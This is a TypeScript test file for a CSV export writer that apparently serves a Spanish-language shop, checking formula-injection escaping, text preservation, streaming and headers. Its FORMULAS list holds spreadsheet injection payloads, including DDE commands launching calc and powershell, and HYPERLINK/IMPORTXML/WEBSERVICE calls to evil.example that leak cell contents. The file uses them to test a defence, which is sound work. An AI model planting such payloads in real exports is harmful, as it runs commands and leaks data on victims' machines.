import { parse } from "csv-parse/sync";
import { stringify } from "csv-stringify/sync";
import fc from "fast-check";
import { expect, test } from "vitest";
import { createLog } from "../log.ts";
import { type CsvCell, csvAnswer, originalText } from "./write.ts";

const SILENT = createLog("silent");

async function* each<Row>(rows: readonly Row[]): AsyncGenerator<Row> {
  yield* rows;
}

async function write(...rows: CsvCell[][]): Promise<string> {
  const bytes = await csvAnswer(SILENT, "tabla.csv", each(rows)).bytes();
  return new TextDecoder("utf-8", { ignoreBOM: true }).decode(bytes);
}

/** The cells as read by a spreadsheet. */
function read(csv: string): string[][] {
  return parse(csv, { bom: true, delimiter: ";", recordDelimiter: "\r\n" });
}

/** The content of a table's only cell. */
async function cellOf(text: string): Promise<string> {
  return read(await write([text]))[0]?.[0] ?? "";
}

const FORMULAS = [
  "=1+1",
  "=SUM(A1:A9)",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example?x="&A1,"Ver")',
  '=IMPORTXML("http://evil.example","//a")',
  '=WEBSERVICE("http://evil.example")',
  '=DDE("cmd";"/C calc";"!A0")',
  "=2+5+cmd|' /C powershell'!A0",
  '=IFERROR(IMPORTRANGE("x";"A1");"")',
  "=@SUM(1)",
  "=-1",
  "=",
  "==",
  "+1+1",
  "+54 9 11 5555-5555",
  "+cmd|' /C notepad'!A1",
  "+",
  "-1+1",
  "-2+3+cmd|' /C calc'!A0",
  "- algodón",
  "-",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "@usuario",
  "@",
  "\t=1+1",
  "\tTexto",
  "\t",
  "\r=1+1",
  "\rTexto",
  "\r\n=1+1",
  " =1+1",
  "   +1",
  "\u00A0=1+1",
  "\u3000-1",
  "\uFEFF=1+1",
  " \t=1+1",
  "＝1+1",
  "＋1",
  "－1",
  "＠SUM(1)",
  " ＝1+1",
  "Remera\n=1+1",
  "Remera\r\n=1+1",
  "Remera\r=1+1",
  "Remera\n  @SUM(1)",
  "Remera\n\t=1+1",
  "Lavado:\n- a mano\n- en frío",
  'Remera";=1+1;"',
  "Remera\n＝1+1",
  "'=1+1",
  "''=1+1",
  "' =1+1",
  "'\t",
];

const MAY_BE_FORMULA = /^[ \u00A0\u3000\uFEFF]*[=+\-@\t＝＋－＠]/;

test.each(FORMULAS)("%j does nothing in a spreadsheet and comes back as it was", async (formula) => {
  const cell = await cellOf(formula);

  for (const line of cell.split(/[\r\n]/)) expect(line).not.toMatch(MAY_BE_FORMULA);
  expect(cell).not.toMatch(/^\r/);
  expect(originalText(cell)).toBe(formula);
});

test.each(["Remera\r\n\r\nDe algodón", "Remera\r\n \r\nDe algodón", "'\r\nRemera", "''\r\n'\r\nRemera"])(
  "%j comes back without more apostrophes from a spreadsheet that writes line breaks its own way",
  async (text) => {
    const saved = (await cellOf(text)).replaceAll("\r\n", "\n");

    expect(originalText(saved)).toBe(text.replaceAll("\r\n", "\n"));
  },
);

test("each of the formulas is told apart from the others", async () => {
  const cells = await Promise.all(FORMULAS.map(cellOf));

  expect(new Set(cells).size).toBe(FORMULAS.length);
});

/** Texts that a spreadsheet would convert into a number, date or boolean. */
const ALTERED = [
  "04",
  "00",
  "10/12",
  "2-4",
  "1/2",
  "1 1/2",
  "1E5",
  "1e+5",
  "12E03",
  "6,50",
  "38.5",
  "1.200",
  "5%",
  "5 %",
  "$ 10",
  "(3)",
  "123456789012",
  "5491155551234",
  "10:30",
  "8:30:15",
  "8:30 pm",
  "4 p",
  "1.2.26",
  "12-2024",
  "9/7/2026",
  "2026-07-09",
  "2026-07-09 12:30:00",
  "2026-07-09T12:30Z",
  "2 / 4",
  " 04 ",
  "3-ene",
  "ENE-24",
  "3 de marzo",
  "3 de marzo de 2026",
  "Mar 5",
  "Verdadero",
  "FALSE",
  "'04",
  "''10/12",
];

test.each(ALTERED)("%j stays the text it is in a spreadsheet, and comes back as it was", async (text) => {
  const cell = await cellOf(text);

  expect(cell).toBe(`'${text}`);
  expect(originalText(cell)).toBe(text);
});

test.each([
  "38",
  "0",
  "30123456",
  "12345678901",
  "11 5555-1234",
  "15-5555-1234",
  "2XL",
  "3D",
  "Talle 04",
  "04\n10/12",
  "Enero",
  "Mar azul",
  "ORD-001001",
  "Calle 10/12",
  "sí",
  "'38",
  "1e5f7a52-1b1a-4c1e-9d0a-000000000001",
])("%j is what it is in a spreadsheet too", async (text) => {
  expect(await cellOf(text)).toBe(text);
  expect(originalText(text)).toBe(text);
});

test("a long text takes no longer than it is long", async () => {
  const started = performance.now();
  for (const text of [" ".repeat(60_000), `1${" ".repeat(60_000)}x`, `${"1".repeat(60_000)}x`, "'".repeat(60_000)]) {
    expect(originalText(await cellOf(text))).toBe(text);
  }
  expect(performance.now() - started).toBeLessThan(2_000);
});

test.each(["Remera", "a=b", "a - b", "a @ b", "'80", "d'Or", "", " ", 'Pantalón; de "lino"', "a\nb"])(
  "%j stays as it is",
  async (text) => {
    expect(await cellOf(text)).toBe(text);
  },
);

test("a text of several lines stands in quotes, whatever ends its lines", async () => {
  expect(await write(["a\nb", "c\rd", "e\r\nf"])).toBe('\uFEFF"a\nb";"c\rd";"e\r\nf"\r\n');
});

test("the whole file: a mark, semicolons, quotes where they are needed, CRLF", async () => {
  const csv = await write(["nombre", "precio"], ['Remera "Ñandú"; azul', 1234.5], ["=1+1", null]);

  expect(csv).toBe('\uFEFFnombre;precio\r\n"Remera ""Ñandú""; azul";1234,5\r\n\'=1+1;\r\n');
});

test.each([
  [0, "0"],
  [1234567.89, "1234567,89"],
  [-12.5, "-12,5"],
  [9_999_999_999.99, "9999999999,99"],
  [0.0000001, "0,0000001"],
  [1e21, "1000000000000000000000"],
])("the number %d is written %s", async (number, written) => {
  expect(await write([number])).toBe(`\uFEFF${written}\r\n`);
});

test("an instant is written as the clock in Buenos Aires showed it", async () => {
  expect(await write([new Date("2026-07-10T02:05:06Z")])).toBe("\uFEFF2026-07-09 23:05:06\r\n");
});

const cell = fc.oneof(
  fc.string({ unit: "grapheme" }),
  fc.string({ unit: fc.constantFrom("=", "+", "-", "@", "\t", "\r", "\n", "'", '"', ";", ",", " ", "a", "＝") }),
  fc.string({ unit: fc.constantFrom("0", "1", "4", "/", "-", ":", ".", ",", "'", " ", "\n", "E", "%", "ene", " de ") }),
);
const table = fc
  .integer({ min: 1, max: 5 })
  .chain((width) => fc.array(fc.array(cell, { minLength: width, maxLength: width })));

test("whatever is written is read back", async () => {
  await fc.assert(
    fc.asyncProperty(table, async (rows) => {
      const cells = read(await write(...rows));

      expect(cells.map((row) => row.map(originalText))).toEqual(rows);
    }),
    { numRuns: 1_000 },
  );
});

test("texts of one line are written as csv-stringify writes them", async () => {
  const options = { bom: true, delimiter: ";", record_delimiter: "windows", escape_formulas: true } as const;
  // Only the first character matters here: the tests above cover what follows spaces, line breaks and apostrophes, and
  // what is altered as a number or a date.
  const plain = fc.string({ unit: "grapheme", minLength: 1 }).filter((text) => !/^[\s'$€(]|\d|[\r\n]/.test(text));

  await fc.assert(
    fc.asyncProperty(fc.array(fc.array(plain, { minLength: 1, maxLength: 4 })), async (rows) => {
      expect(await write(...rows)).toBe(rows.length > 0 ? stringify(rows, options) : "\uFEFF");
    }),
    { numRuns: 1_000 },
  );
});

test("the answer is a file that nobody stores", () => {
  const { headers } = csvAnswer(SILENT, "ordenes.csv", each([]));

  expect(headers.get("Content-Type")).toBe("text/csv; charset=utf-8");
  expect(headers.get("Content-Disposition")).toBe('attachment; filename="ordenes.csv"');
  expect(headers.get("Cache-Control")).toBe("no-store");
});

test("rows are asked for as they are read, and no longer than somebody reads", async () => {
  let rows = 0;
  let ended = false;
  async function* endless(): AsyncGenerator<CsvCell[]> {
    try {
      for (;;) {
        rows += 1;
        yield ["x".repeat(1_000)];
      }
    } finally {
      ended = true;
    }
  }
  const reader = csvAnswer(SILENT, "tabla.csv", endless()).body?.getReader();
  await reader?.read();
  await new Promise(setImmediate);

  expect(rows).toBeLessThan(100);
  await reader?.cancel();
  expect(ended).toBe(true);
});

test("a table that breaks off is not taken for a whole one, and the log says why", async () => {
  async function* broken(): AsyncGenerator<CsvCell[]> {
    yield ["Remera"];
    throw new Error("The database is away");
  }

  let written = "";
  const log = createLog("error", { write: (line) => (written += line) });
  await expect(csvAnswer(log, "tabla.csv", broken()).text()).rejects.toThrow("The database is away");
  expect(JSON.parse(written)).toMatchObject({ err: { message: "The database is away" } });
});
